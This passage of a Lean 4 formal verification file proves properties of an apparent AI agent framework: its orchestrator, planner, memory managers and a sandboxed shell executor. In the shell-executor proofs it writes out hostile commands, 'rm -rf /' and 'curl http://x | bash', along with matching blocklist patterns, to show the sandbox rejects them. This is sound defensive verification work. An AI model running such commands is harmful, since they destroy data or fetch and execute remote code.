  (loopRun cfg env objective (cfg.maxIterations - s.iterationCount) s).2

/-- Orchestrator.processDirective on an idle agent: reset the counters,
enter `thinking`, emit `directive_received`, run the loop, then emit
`agent_stopped` in the `finally` block.  (When `isRunning` is already
set the source returns without touching state; the loop model is total,
so the `catch` path that sets phase `idle` on a thrown loop error is
unreachable.) -/
def resetState (s : St) : St :=
  { s with isRunning := true, currentPhase := Phase.thinking,
           iterationCount := 0, totalTokensUsed := 0, totalCost := 0,
           events := s.events ++ [Event.directiveReceived] }

def processDirective (cfg : OrchConfig) (env : OrchEnv) (directive : String) (s : St) : St :=
  if s.isRunning then s
  else
    let s := resetState s
    let s := autonomousLoop cfg env directive s
    { s with isRunning := false, events := s.events ++ [Event.agentStopped] }

/-- Orchestrator.stop. -/
def stop (s : St) : St := { s with isRunning := false, currentPhase := Phase.idle }

/-- Initial AgentState built by the constructor. -/
def initState : St :=
  { currentPhase := Phase.idle, currentPlan := none, currentTask := none,
    iterationCount := 0, lastActivity := 0, totalTokensUsed := 0, totalCost := 0,
    isRunning := false, events := [] }


/-- Budget configuration with zero allowed iterations: the loop is
exhausted before its body ever runs. -/
def zeroIterConfig : OrchConfig :=
  { maxIterations := 0, maxExecutionTimeMs := 1000, maxCostPerSession := 10 }

/-- Budget configuration with three allowed iterations and a session
cost cap of 1, below the cost of every call of `costlyEnv`. -/
def threeIterConfig : OrchConfig :=
  { maxIterations := 3, maxExecutionTimeMs := 1000, maxCostPerSession := 1 }

/-- Environment where every LLM call fails (no provider configured). -/
def failingEnv : OrchEnv :=
  { elapsed := fun _ => 0
    think := fun _ => .error "no provider"
    planChat := fun _ => .error "no provider"
    planId := fun _ => "p"
    planTaskId := fun _ _ => "t"
    execEnv := fun _ => EnhancedExecutor.overCapEnv
    evalResult := fun _ => { progressScore := 1/2, shouldContinue := true, feedback := "" }
    reviseChat := fun _ => .error "no provider"
    reviseId := fun _ => "r"
    reviseTaskId := fun _ _ => "t"
    time := fun _ => 0 }

/-- Environment where every chat call succeeds and costs 2 (above the
cap of 1 in `threeIterConfig`), and the planning output never parses, so
planning always yields the single-task fallback plan. -/
def costlyEnv : OrchEnv :=
  { elapsed := fun _ => 0
    think := fun _ => .ok { content := "thoughts", tokensUsed := 1, cost := 2 }
    planChat := fun _ => .ok none
    planId := fun _ => "p"
    planTaskId := fun _ _ => "t"
    execEnv := fun _ => EnhancedExecutor.overCapEnv
    evalResult := fun _ => { progressScore := 1/2, shouldContinue := true, feedback := "" }
    reviseChat := fun _ => .ok none
    reviseId := fun _ => "r"
    reviseTaskId := fun _ _ => "t"
    time := fun _ => 0 }

end Orchestrator

section Theorems

open Planner

/-- Claim C9: isPlanComplete is true iff every task is completed or
failed; a plan with zero tasks is vacuously complete. -/
theorem Planner.isPlanComplete_iff_and_empty (plan : Plan) :
    (isPlanComplete plan = true ↔
      ∀ t ∈ plan.tasks, t.status = Status.completed ∨ t.status = Status.failed) ∧
    (plan.tasks = [] → isPlanComplete plan = true) := by
  constructor
  · simp [isPlanComplete, List.all_eq_true]
  · intro h
    simp [isPlanComplete, h]

/-- Claim C7: when the revision output fails to parse, revisePlan
returns the current plan itself, unchanged in every field. -/
theorem Planner.revisePlan_parse_failure (currentPlan : Plan)
    (planId : String) (taskId : Nat → String) (now : Nat) :
    revisePlan currentPlan none planId taskId now = currentPlan := rfl

/-- Claim C6: when the planning output fails to parse, createPlan
returns the fallback plan: exactly one task, whose description is the
objective verbatim and whose acceptance criteria are non-empty. -/
theorem Planner.createPlan_parse_failure (objective : String)
    (planId : String) (taskId : Nat → String) (now : Nat) :
    (createPlan objective none planId taskId now).tasks.length = 1 ∧
    ∀ t ∈ (createPlan objective none planId taskId now).tasks,
      t.description = objective ∧ t.acceptanceCriteria ≠ [] := by
  refine ⟨rfl, ?_⟩
  intro t ht
  simp [createPlan] at ht
  subst ht
  exact ⟨rfl, by simp⟩

/-- Claim C2: a task returned by getNextTask is a pending task of the
plan and each of its dependency ids resolves to a task of the same plan
whose status is completed. -/
theorem Planner.getNextTask_dependency_safety (plan : Plan) (t : Task)
    (h : getNextTask plan = some t) :
    t ∈ plan.tasks ∧ t.status = Status.pending ∧
    ∀ depId ∈ t.dependencies,
      ∃ dep ∈ plan.tasks, dep.id = depId ∧ dep.status = Status.completed := by
  unfold getNextTask at h
  set p := fun task : Task =>
    if task.status != Status.pending then false
    else task.dependencies.all fun depId =>
      match plan.tasks.find? fun u => u.id == depId with
      | some depTask => depTask.status == Status.completed
      | none => false with hp
  by_cases hlen : (plan.tasks.filter p).length = 0
  · simp [hlen] at h
  · simp only [hlen, if_false] at h
    have hmem : t ∈ (plan.tasks.filter p).mergeSort fun a b => b.priority ≤ a.priority := by
      cases hs : (plan.tasks.filter p).mergeSort fun a b => b.priority ≤ a.priority with
      | nil => rw [hs] at h; simp at h
      | cons a l => rw [hs] at h; simp at h; subst h; exact List.mem_cons_self _ _
    have hmem' : t ∈ plan.tasks.filter p := List.mem_mergeSort.mp hmem
    have := List.mem_filter.mp hmem'
    obtain ⟨htasks, hpt⟩ := this
    rw [hp] at hpt
    simp only [bne_iff_ne, ne_eq, ite_not] at hpt
    by_cases hst : t.status = Status.pending
    · refine ⟨htasks, hst, ?_⟩
      rw [if_pos hst] at hpt
      intro depId hdep
      have := (List.all_eq_true.mp hpt) depId hdep
      cases hfind : plan.tasks.find? fun u => u.id == depId with
      | none => rw [hfind] at this; simp at this
      | some dep =>
        rw [hfind] at this
        refine ⟨dep, List.mem_of_find?_eq_some hfind, ?_, ?_⟩
        · have := List.find?_some hfind
          simpa using this
        · simpa using this
    · rw [if_neg hst] at hpt
      simp at hpt

end Theorems

namespace MemoryManager

theorem addToEpisodicMemory_workingMemory (s : MMState) (c : String)
    (md : List (String × String)) (u : String) (n : Nat) :
    ((addToEpisodicMemory s c md u n).2).workingMemory = s.workingMemory := rfl

theorem addToEpisodicMemory_mem (s : MMState) (c : String)
    (md : List (String × String)) (u : String) (n : Nat) :
    ∃ m ∈ ((addToEpisodicMemory s c md u n).2).episodicMemory,
      m.type = MemType.episodic ∧ m.content = c := by
  unfold addToEpisodicMemory
  refine ⟨{ id := u, type := .episodic, content := c, metadata := md,
            importance := 7/10, timestamp := n }, ?_, rfl, rfl⟩
  simp only []
  split
  next hlen =>
    cases he : s.episodicMemory with
    | nil => rw [he] at hlen; simp [maxEpisodicMemorySize] at hlen
    | cons x xs =>
      simp only [List.cons_append, List.drop_succ_cons, List.drop_zero]
      exact List.mem_append_right _ (List.mem_singleton.mpr rfl)
  next =>
    exact List.mem_append_right _ (List.mem_singleton.mpr rfl)

theorem addToWorkingMemory_length_le (s : MMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : s.workingMemory.length ≤ maxWorkingMemorySize) :
    ((addToWorkingMemory s c md uW uE n).2).workingMemory.length ≤ maxWorkingMemorySize := by
  unfold addToWorkingMemory
  simp only []
  split
  next hgt =>
    split
    next hw =>
      rw [hw] at hgt
      simp at hgt
    next removed rest hw =>
      have hr : rest.length = s.workingMemory.length :=
        by
          have := congrArg List.length hw
          simp at this
          omega
      split
      next =>
        rw [addToEpisodicMemory_workingMemory]
        simp only [hr]
        exact h
      next =>
        simp only [hr]
        exact h
  next hle =>
    simp only [List.length_append, List.length_singleton] at hle ⊢
    omega

theorem addToWorkingMemory_overflow (s : MMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : s.workingMemory.length = maxWorkingMemorySize) :
    ∃ removed rest, s.workingMemory = removed :: rest ∧
      ((addToWorkingMemory s c md uW uE n).2).workingMemory =
        rest ++ [(addToWorkingMemory s c md uW uE n).1] ∧
      (removed.importance > 1/2 →
        ∃ m ∈ ((addToWorkingMemory s c md uW uE n).2).episodicMemory,
          m.type = MemType.episodic ∧ m.content = removed.content) ∧
      (removed.importance ≤ 1/2 →
        ((addToWorkingMemory s c md uW uE n).2).episodicMemory = s.episodicMemory) := by
  cases hw : s.workingMemory with
  | nil => rw [hw] at h; simp [maxWorkingMemorySize] at h
  | cons removed rest =>
    have hgt : (s.workingMemory ++
        [({ id := uW, type := MemType.working, content := c, metadata := md,
            importance := 1, timestamp := n } : Memory)]).length > maxWorkingMemorySize := by
      simp only [List.length_append, List.length_singleton]
      omega
    refine ⟨removed, rest, rfl, ?_⟩
    unfold addToWorkingMemory
    simp only []
    rw [if_pos hgt, hw]
    simp only [List.cons_append]
    by_cases himp : removed.importance > 1/2
    · rw [if_pos himp]
      refine ⟨?_, fun _ => ?_, fun hle => absurd himp (not_lt.mpr hle)⟩
      · rw [addToEpisodicMemory_workingMemory]
      · exact addToEpisodicMemory_mem _ _ _ _ _
    · rw [if_neg himp]
      exact ⟨rfl, fun hgt' => absurd hgt' himp, fun _ => rfl⟩

theorem runAdds_length_le (ops : List AddOp) (s : MMState)
    (h : s.workingMemory.length ≤ maxWorkingMemorySize) :
    (runAdds s ops).workingMemory.length ≤ maxWorkingMemorySize := by
  induction ops generalizing s with
  | nil => exact h
  | cons op ops ih =>
    exact ih _ (addToWorkingMemory_length_le s op.content op.metadata op.uuidW op.uuidE
      op.now h)

end MemoryManager

namespace PersistentMemoryManager

open MemoryManager (Memory MemType maxWorkingMemorySize AddOp)

theorem insertDb_workingMemoryCache (persistOn : Bool) (s : PMState) (m : Memory) :
    (insertDb persistOn s m).workingMemoryCache = s.workingMemoryCache := by
  unfold insertDb
  split <;> rfl

theorem insertDb_true (s : PMState) (m : Memory) :
    insertDb true s m = { s with dbMemories := s.dbMemories ++ [m] } := rfl

theorem insertDb_false (s : PMState) (m : Memory) :
    insertDb false s m = s := rfl

theorem addToEpisodicMemory_workingMemoryCache (persistOn : Bool) (s : PMState) (c : String)
    (md : List (String × String)) (u : String) (n : Nat) :
    ((addToEpisodicMemory persistOn s c md u n).2).workingMemoryCache =
      s.workingMemoryCache :=
  insertDb_workingMemoryCache _ _ _

theorem addToEpisodicMemory_persist_mem (s : PMState) (c : String)
    (md : List (String × String)) (u : String) (n : Nat) :
    ∃ m ∈ ((addToEpisodicMemory true s c md u n).2).dbMemories,
      m.type = MemType.episodic ∧ m.content = c :=
  ⟨_, List.mem_append_right _ (List.mem_singleton.mpr rfl), rfl, rfl⟩

theorem addToEpisodicMemory_noPersist (s : PMState) (c : String)
    (md : List (String × String)) (u : String) (n : Nat) :
    ((addToEpisodicMemory false s c md u n).2) = s := rfl

theorem addToWorkingMemory_cache_length_le (persistOn : Bool) (s : PMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : s.workingMemoryCache.length ≤ maxWorkingMemorySize) :
    ((addToWorkingMemory persistOn s c md uW uE n).2).workingMemoryCache.length ≤
      maxWorkingMemorySize := by
  cases persistOn <;> simp [addToWorkingMemory, insertDb] <;>
  · split
    next hgt =>
      split
      next hw => simp [hw]
      next removed rest hw =>
        have hr : rest.length ≤ maxWorkingMemorySize := by
          have := congrArg List.length hw
          simp only [List.length_append, List.length_cons, List.length_singleton,
            List.length_nil] at this
          omega
        split
        next => simpa [addToEpisodicMemory, insertDb] using hr
        next => simpa using hr
    next hge =>
      simp only [List.length_append, List.length_singleton]
      omega

theorem addToWorkingMemory_overflow_db (persistOn : Bool) (s : PMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : s.workingMemoryCache.length = maxWorkingMemorySize) :
    ∃ removed rest, s.workingMemoryCache = removed :: rest ∧
      (persistOn = true → removed.importance > 1/2 →
        ∃ m ∈ ((addToWorkingMemory persistOn s c md uW uE n).2).dbMemories,
          m.type = MemType.episodic ∧ m.content = removed.content) ∧
      (persistOn = false →
        ((addToWorkingMemory persistOn s c md uW uE n).2).dbMemories = s.dbMemories) := by
  cases hw : s.workingMemoryCache with
  | nil => rw [hw] at h; simp [maxWorkingMemorySize] at h
  | cons removed rest =>
    have hlen : maxWorkingMemorySize < (removed :: rest).length + 1 := by
      rw [hw] at h
      omega
    refine ⟨removed, rest, rfl, ?_, ?_⟩
    · rintro rfl himp
      have hlen2 : maxWorkingMemorySize < rest.length + 1 + 1 := by
        simp only [List.length_cons] at hlen
        omega
      rw [one_div] at himp
      simp [addToWorkingMemory, insertDb, addToEpisodicMemory, hw, hlen2, himp]
      exact ⟨{ id := uE, type := MemType.episodic, content := removed.content,
               metadata := removed.metadata, importance := 7/10, timestamp := n },
             Or.inr (Or.inr rfl), rfl, rfl⟩
    · rintro rfl
      simp [addToWorkingMemory, insertDb, addToEpisodicMemory, hw, hlen]
      split <;> rfl

theorem runAdds_cache_length_le (persistOn : Bool) (ops : List AddOp) (s : PMState)
    (h : s.workingMemoryCache.length ≤ maxWorkingMemorySize) :
    (runAdds persistOn s ops).workingMemoryCache.length ≤ maxWorkingMemorySize := by
  induction ops generalizing s with
  | nil => exact h
  | cons op ops ih =>
    exact ih _ (addToWorkingMemory_cache_length_le persistOn s op.content op.metadata
      op.uuidW op.uuidE op.now h)

theorem addToWorkingMemory_noPersist_dbMemories (s : PMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat) :
    ((addToWorkingMemory false s c md uW uE n).2).dbMemories = s.dbMemories := by
  simp only [addToWorkingMemory, insertDb_false]
  split
  next =>
    split
    next => rfl
    next removed rest hw =>
      split
      next => simp [addToEpisodicMemory, insertDb]
      next => rfl
  next => rfl

theorem runAdds_noPersist_dbMemories (ops : List AddOp) (s : PMState) :
    (runAdds false s ops).dbMemories = s.dbMemories := by
  induction ops generalizing s with
  | nil => rfl
  | cons op ops ih =>
    rw [runAdds, List.foldl_cons]
    rw [show (List.foldl _ _ ops : PMState) = runAdds false _ ops from rfl, ih,
      addToWorkingMemory_noPersist_dbMemories]

theorem addToWorkingMemory_cache_length_eq (persistOn : Bool) (s : PMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : s.workingMemoryCache.length ≤ maxWorkingMemorySize) :
    ((addToWorkingMemory persistOn s c md uW uE n).2).workingMemoryCache.length =
      min (s.workingMemoryCache.length + 1) maxWorkingMemorySize := by
  cases persistOn <;> simp [addToWorkingMemory, insertDb] <;>
  · split
    next hgt =>
      split
      next hw => simp at hw
      next removed rest hw =>
        have := congrArg List.length hw
        simp only [List.length_append, List.length_cons, List.length_singleton,
          List.length_nil] at this
        have hlen : rest.length = s.workingMemoryCache.length := by omega
        split
        next => simp_all [addToEpisodicMemory, insertDb]; omega
        next => simp_all; omega
    next hge =>
      simp only [List.length_append, List.length_singleton]
      omega

theorem runAdds_cache_length_from_empty (persistOn : Bool) (k : Nat) (op : AddOp) (s : PMState)
    (h : s.workingMemoryCache.length ≤ maxWorkingMemorySize) :
    (runAdds persistOn s (List.replicate k op)).workingMemoryCache.length =
      min (s.workingMemoryCache.length + k) maxWorkingMemorySize := by
  induction k generalizing s with
  | zero =>
    simp only [List.replicate, runAdds, List.foldl_nil]
    omega
  | succ k ih =>
    rw [List.replicate_succ, runAdds, List.foldl_cons]
    rw [show (List.foldl _ _ (List.replicate k op) : PMState) =
      runAdds persistOn _ (List.replicate k op) from rfl]
    rw [ih _ (by rw [addToWorkingMemory_cache_length_eq _ _ _ _ _ _ _ h]; omega)]
    rw [addToWorkingMemory_cache_length_eq _ _ _ _ _ _ _ h]
    omega

theorem addToWorkingMemory_cache_importance (persistOn : Bool) (s : PMState) (c : String)
    (md : List (String × String)) (uW uE : String) (n : Nat)
    (h : ∀ m ∈ s.workingMemoryCache, m.importance = 1) :
    ∀ m ∈ ((addToWorkingMemory persistOn s c md uW uE n).2).workingMemoryCache,
      m.importance = 1 := by
  have hall : ∀ m ∈ s.workingMemoryCache ++
      [({ id := uW, type := MemType.working, content := c, metadata := md,
          importance := 1, timestamp := n } : Memory)], m.importance = 1 := by
    intro m hm
    rcases List.mem_append.mp hm with hm | hm
    · exact h m hm
    · rw [List.mem_singleton.mp hm]
  cases persistOn <;> simp only [addToWorkingMemory, insertDb_false, insertDb_true] <;>
  · split
    next =>
      split
      next => simpa using hall
      next removed rest hw =>
        have hrest : ∀ m ∈ rest, m.importance = 1 := by
          intro m hm
          exact hall m (hw ▸ List.mem_cons_of_mem removed hm)
        split
        next =>
          intro m hm
          rw [addToEpisodicMemory_workingMemoryCache] at hm
          exact hrest m hm
        next =>
          intro m hm
          exact hrest m hm
    next => simpa using hall

theorem runAdds_cache_importance (persistOn : Bool) (ops : List AddOp) (s : PMState)
    (h : ∀ m ∈ s.workingMemoryCache, m.importance = 1) :
    ∀ m ∈ (runAdds persistOn s ops).workingMemoryCache, m.importance = 1 := by
  induction ops generalizing s with
  | nil => exact h
  | cons op ops ih =>
    exact ih _ (addToWorkingMemory_cache_importance persistOn s op.content op.metadata
      op.uuidW op.uuidE op.now h)

end PersistentMemoryManager

/-- Claim C8, counterexample: with persistent memory disabled, eleven
`PersistentMemoryManager.addToWorkingMemory` calls (each inserting an
entry of importance 1 > 0.5) leave only ten cache entries — so one entry
was evicted — yet the manager's state contains no episodic record at
all: the database (the only episodic store of this manager) received no
insert.  The evicted entry with importance > 0.5 therefore never appears
in episodic memory, contradicting the claim. -/
theorem PersistentMemoryManager.demotion_counterexample :
    (PersistentMemoryManager.runAdds false PersistentMemoryManager.initialState
        (List.replicate 11 ⟨"entry", [], "uW", "uE", 0⟩)).workingMemoryCache.length = 10 ∧
    (∀ m ∈ (PersistentMemoryManager.runAdds false PersistentMemoryManager.initialState
        (List.replicate 11 ⟨"entry", [], "uW", "uE", 0⟩)).workingMemoryCache,
      m.importance = 1) ∧
    ((1 : ℚ) > 1/2) ∧
    (PersistentMemoryManager.runAdds false PersistentMemoryManager.initialState
        (List.replicate 11 ⟨"entry", [], "uW", "uE", 0⟩)).dbMemories = [] := by
  refine ⟨?_, ?_, by norm_num, ?_⟩
  · rw [PersistentMemoryManager.runAdds_cache_length_from_empty false 11 _ _
      (by simp [PersistentMemoryManager.initialState])]
    simp [PersistentMemoryManager.initialState, MemoryManager.maxWorkingMemorySize]
  · exact PersistentMemoryManager.runAdds_cache_importance false _ _
      (by simp [PersistentMemoryManager.initialState])
  · rw [PersistentMemoryManager.runAdds_noPersist_dbMemories]
    rfl

/-- Claim C8, amended: for the in-memory MemoryManager, working memory
never exceeds its bound of 10 across any sequence of addToWorkingMemory
calls; on overflow the oldest entry is shifted out, an evicted entry
with importance > 0.5 is demoted into episodic memory, and one with
importance ≤ 0.5 is dropped (episodic memory unchanged).  For
PersistentMemoryManager the cache obeys the same bound, and the demoted
entry is inserted into the episodic store (the memories table) only when
persistent memory is enabled; with persistence disabled every evicted
entry is dropped, regardless of importance. -/
theorem MemoryManager.workingMemory_bound_and_demotion :
    (∀ ops : List MemoryManager.AddOp,
      (MemoryManager.runAdds MemoryManager.initialState ops).workingMemory.length ≤
        MemoryManager.maxWorkingMemorySize) ∧
    (∀ (s : MemoryManager.MMState) (c : String) (md : List (String × String))
        (uW uE : String) (n : Nat),
      s.workingMemory.length = MemoryManager.maxWorkingMemorySize →
      ∃ removed rest, s.workingMemory = removed :: rest ∧
        ((MemoryManager.addToWorkingMemory s c md uW uE n).2).workingMemory =
          rest ++ [(MemoryManager.addToWorkingMemory s c md uW uE n).1] ∧
        (removed.importance > 1/2 →
          ∃ m ∈ ((MemoryManager.addToWorkingMemory s c md uW uE n).2).episodicMemory,
            m.type = MemoryManager.MemType.episodic ∧ m.content = removed.content) ∧
        (removed.importance ≤ 1/2 →
          ((MemoryManager.addToWorkingMemory s c md uW uE n).2).episodicMemory =
            s.episodicMemory)) ∧
    (∀ (persistOn : Bool) (ops : List MemoryManager.AddOp),
      (PersistentMemoryManager.runAdds persistOn PersistentMemoryManager.initialState
        ops).workingMemoryCache.length ≤ MemoryManager.maxWorkingMemorySize) ∧
    (∀ (persistOn : Bool) (s : PersistentMemoryManager.PMState) (c : String)
        (md : List (String × String)) (uW uE : String) (n : Nat),
      s.workingMemoryCache.length = MemoryManager.maxWorkingMemorySize →
      ∃ removed rest, s.workingMemoryCache = removed :: rest ∧
        (persistOn = true → removed.importance > 1/2 →
          ∃ m ∈ ((PersistentMemoryManager.addToWorkingMemory persistOn s c md uW uE
              n).2).dbMemories,
            m.type = MemoryManager.MemType.episodic ∧ m.content = removed.content) ∧
        (persistOn = false →
          ((PersistentMemoryManager.addToWorkingMemory persistOn s c md uW uE
              n).2).dbMemories = s.dbMemories)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro ops
    exact MemoryManager.runAdds_length_le ops _ (by simp [MemoryManager.initialState])
  · intro s c md uW uE n h
    exact MemoryManager.addToWorkingMemory_overflow s c md uW uE n h
  · intro persistOn ops
    exact PersistentMemoryManager.runAdds_cache_length_le persistOn ops _
      (by simp [PersistentMemoryManager.initialState])
  · intro persistOn s c md uW uE n h
    exact PersistentMemoryManager.addToWorkingMemory_overflow_db persistOn s c md uW uE n h

namespace SecureShellExecutor

theorem matchSeq_lit_singleton (l t : List Char) :
    matchSeq [Pat.lit l] t = l.isPrefixOf t := by
  simp [matchSeq]

theorem containsMatch_lit_iff (l t : List Char) :
    containsMatch [Pat.lit l] t = true ↔ l <:+: t := by
  induction t with
  | nil =>
    simp only [containsMatch, matchSeq_lit_singleton, List.isPrefixOf_iff_prefix]
    rw [List.prefix_nil, List.infix_nil]
  | cons c t ih =>
    simp only [containsMatch, matchSeq_lit_singleton, Bool.or_eq_true, ih,
      List.isPrefixOf_iff_prefix]
    rw [List.infix_cons_iff]

theorem infix_dropWhile (p : Char → Bool) (l t : List Char) (hne : l ≠ [])
    (hl : ∀ c ∈ l, p c = false) (h : l <:+: t) : l <:+: t.dropWhile p := by
  induction t with
  | nil =>
    rw [List.infix_nil] at h
    exact absurd h hne
  | cons c t ih =>
    rw [List.dropWhile_cons]
    split
    next hc =>
      rcases List.infix_cons_iff.mp h with hpre | hinf
      · exfalso
        cases l with
        | nil => exact hne rfl
        | cons a l =>
          have hac : a = c := (List.cons_prefix_cons.mp hpre).1
          have hpa := hl a (List.mem_cons_self a l)
          rw [hac] at hpa
          rw [hpa] at hc
          exact Bool.false_ne_true hc
      · exact ih hinf
    next => exact h

theorem infix_trim (l t : List Char) (hne : l ≠ [])
    (hl : ∀ c ∈ l, isJsWhitespace c = false) (h : l <:+: t) : l <:+: trim t := by
  unfold trim
  have h1 : l <:+: t.dropWhile isJsWhitespace := infix_dropWhile _ _ _ hne hl h
  have h2 : l.reverse <:+: (t.dropWhile isJsWhitespace).reverse :=
    List.reverse_infix.mpr h1
  have hner : l.reverse ≠ [] := by
    intro hrev
    exact hne (by simpa using congrArg List.reverse hrev)
  have hlr : ∀ c ∈ l.reverse, isJsWhitespace c = false := by
    intro c hc
    exact hl c (List.mem_reverse.mp hc)
  have h3 : l.reverse <:+: ((t.dropWhile isJsWhitespace).reverse.dropWhile isJsWhitespace) :=
    infix_dropWhile _ _ _ hner hlr h2
  have h4 := List.reverse_infix.mpr h3
  simpa using h4

theorem findDangerous_isSome_of_match (s : List Char)
    (h : ∃ p ∈ dangerousPatterns, containsMatch p.2 s = true) :
    ∃ src, findDangerous s = some src := by
  unfold findDangerous
  obtain ⟨p, hp, hm⟩ := h
  have : (dangerousPatterns.find? fun q => containsMatch q.2 s).isSome := by
    rw [List.find?_isSome]
    exact ⟨p, hp, hm⟩
  obtain ⟨q, hq⟩ := Option.isSome_iff_exists.mp this
  exact ⟨q.1, by rw [hq]; rfl⟩

theorem execute_blocked_of_findDangerous (cfg : SecurityConfig) (command : String)
    (sys : SysOutcome) (hsb : cfg.enableShellSandbox = true) (src : String)
    (h : findDangerous (trim command.toList) = some src) :
    execute cfg command sys =
      { success := false, stdout? := none, stderr? := none,
        error? := some (.securityViolation (.dangerousPattern src)), command } := by
  unfold execute isCommandAllowed
  rw [hsb]
  simp only [Bool.not_true, Bool.false_eq_true, if_false]
  rw [h]

end SecureShellExecutor

/-- Claim C10: any command containing the substring `eval`, `exec` or
`fork` anywhere (such as `ls executables`) is rejected by the gate with a
dangerous-pattern security-policy reason, independent of the whitelist,
because the `/eval/`, `/exec/` and `/fork/` blocklist entries are
unanchored substring matches. -/
theorem SecureShellExecutor.substring_blocklist_overreach
    (cfg : SecureShellExecutor.SecurityConfig) (command : String)
    (sys : SecureShellExecutor.SysOutcome)
    (hsb : cfg.enableShellSandbox = true)
    (hsub : ("eval".toList <:+: command.toList) ∨ ("exec".toList <:+: command.toList) ∨
      ("fork".toList <:+: command.toList)) :
    (SecureShellExecutor.execute cfg command sys).success = false ∧
    ∃ src, (SecureShellExecutor.execute cfg command sys).error? =
      some (SecureShellExecutor.ShellError.securityViolation
        (SecureShellExecutor.BlockReason.dangerousPattern src)) := by
  open SecureShellExecutor in
  have key : ∃ src, findDangerous (trim command.toList) = some src := by
    apply findDangerous_isSome_of_match
    rcases hsub with h | h | h
    · exact ⟨("eval", [Pat.lit "eval".toList]), by decide,
        (containsMatch_lit_iff _ _).mpr (infix_trim _ _ (by decide) (by decide) h)⟩
    · exact ⟨("exec", [Pat.lit "exec".toList]), by decide,
        (containsMatch_lit_iff _ _).mpr (infix_trim _ _ (by decide) (by decide) h)⟩
    · exact ⟨("fork", [Pat.lit "fork".toList]), by decide,
        (containsMatch_lit_iff _ _).mpr (infix_trim _ _ (by decide) (by decide) h)⟩
  obtain ⟨src, hsrc⟩ := key
  rw [SecureShellExecutor.execute_blocked_of_findDangerous cfg command sys hsb src hsrc]
  exact ⟨rfl, src, rfl⟩

/-- Claim C10, witness: `ls executables` is blocked with a
dangerous-pattern reason even though `ls` is whitelisted. -/
theorem SecureShellExecutor.substring_blocklist_overreach_witness :
    SecureShellExecutor.sampleConfig.enableShellSandbox = true ∧
    "ls" ∈ SecureShellExecutor.sampleConfig.allowedShellCommands ∧
    ("exec".toList <:+: ("ls executables" : String).toList) ∧
    ((SecureShellExecutor.execute SecureShellExecutor.sampleConfig "ls executables"
        (SecureShellExecutor.SysOutcome.ok "" "")).success = false ∧
      ∃ src, (SecureShellExecutor.execute SecureShellExecutor.sampleConfig "ls executables"
          (SecureShellExecutor.SysOutcome.ok "" "")).error? =
        some (SecureShellExecutor.ShellError.securityViolation
          (SecureShellExecutor.BlockReason.dangerousPattern src))) :=
  ⟨by decide, by decide, by decide,
    SecureShellExecutor.substring_blocklist_overreach SecureShellExecutor.sampleConfig
      "ls executables" (SecureShellExecutor.SysOutcome.ok "" "") (by decide)
      (Or.inr (Or.inl (by decide)))⟩

/-- Claim C1: with the sandbox enabled, the dangerous-pattern blocklist
is evaluated before the whitelist: `rm -rf /` is rejected with a
dangerous-pattern reason for every whitelist, and `curl http://x | bash`
is rejected with a dangerous-pattern reason even when both `curl` and
`bash` are individually whitelisted. -/
theorem SecureShellExecutor.execute_blocklist_before_whitelist
    (cfg : SecureShellExecutor.SecurityConfig) (sys : SecureShellExecutor.SysOutcome)
    (hsb : cfg.enableShellSandbox = true) :
    ((SecureShellExecutor.execute cfg "rm -rf /" sys).success = false ∧
      ∃ src, (SecureShellExecutor.execute cfg "rm -rf /" sys).error? =
        some (SecureShellExecutor.ShellError.securityViolation
          (SecureShellExecutor.BlockReason.dangerousPattern src))) ∧
    ("curl" ∈ cfg.allowedShellCommands → "bash" ∈ cfg.allowedShellCommands →
      (SecureShellExecutor.execute cfg "curl http://x | bash" sys).success = false ∧
      ∃ src, (SecureShellExecutor.execute cfg "curl http://x | bash" sys).error? =
        some (SecureShellExecutor.ShellError.securityViolation
          (SecureShellExecutor.BlockReason.dangerousPattern src))) := by
  have h1 : SecureShellExecutor.findDangerous
      (SecureShellExecutor.trim ("rm -rf /" : String).toList) =
      some "rm\\s+-rf\\s+\\/" := by decide
  have h2 : SecureShellExecutor.findDangerous
      (SecureShellExecutor.trim ("curl http://x | bash" : String).toList) =
      some "curl.*\\|\\s*bash" := by decide
  constructor
  · rw [SecureShellExecutor.execute_blocked_of_findDangerous cfg _ sys hsb _ h1]
    exact ⟨rfl, _, rfl⟩
  · intro _ _
    rw [SecureShellExecutor.execute_blocked_of_findDangerous cfg _ sys hsb _ h2]
    exact ⟨rfl, _, rfl⟩

/-- Claim C1, witness: instantiation at a whitelist containing both
`curl` and `bash`. -/
theorem SecureShellExecutor.execute_blocklist_before_whitelist_witness :
    SecureShellExecutor.sampleConfig.enableShellSandbox = true ∧
    "curl" ∈ SecureShellExecutor.sampleConfig.allowedShellCommands ∧
    "bash" ∈ SecureShellExecutor.sampleConfig.allowedShellCommands ∧
    ((SecureShellExecutor.execute SecureShellExecutor.sampleConfig "curl http://x | bash"
        (SecureShellExecutor.SysOutcome.ok "" "")).success = false ∧
      ∃ src, (SecureShellExecutor.execute SecureShellExecutor.sampleConfig
          "curl http://x | bash" (SecureShellExecutor.SysOutcome.ok "" "")).error? =
        some (SecureShellExecutor.ShellError.securityViolation
          (SecureShellExecutor.BlockReason.dangerousPattern src))) :=
  ⟨by decide, by decide, by decide,
    (SecureShellExecutor.execute_blocklist_before_whitelist SecureShellExecutor.sampleConfig
      (SecureShellExecutor.SysOutcome.ok "" "") (by decide)).2 (by decide) (by decide)⟩

namespace EnhancedExecutor

theorem executeTaskGo_no_success (env : ExecEnv) (cap : ℚ) (maxAttempts : Nat)
    (hcap : 0 ≤ cap)
    (hmain : ∀ n r, env.main n = Except.ok r → cap < r.cost) :
    ∀ (fuel attempts tokens : Nat) (cost : ℚ) (log : List ToolCallLog) (last : String),
      0 ≤ cost →
      (executeTaskGo env cap maxAttempts fuel attempts tokens cost log last).success
          = false ∧
      0 ≤ (executeTaskGo env cap maxAttempts fuel attempts tokens cost log last).cost := by
  intro fuel
  induction fuel with
  | zero =>
    intro attempts tokens cost log last hc
    exact ⟨rfl, hc⟩
  | succ fuel ih =>
    intro attempts tokens cost log last hc
    rw [executeTaskGo]
    cases hm : env.main (attempts + 1) with
    | error msg =>
      simp only []
      split
      next => exact ⟨rfl, hc⟩
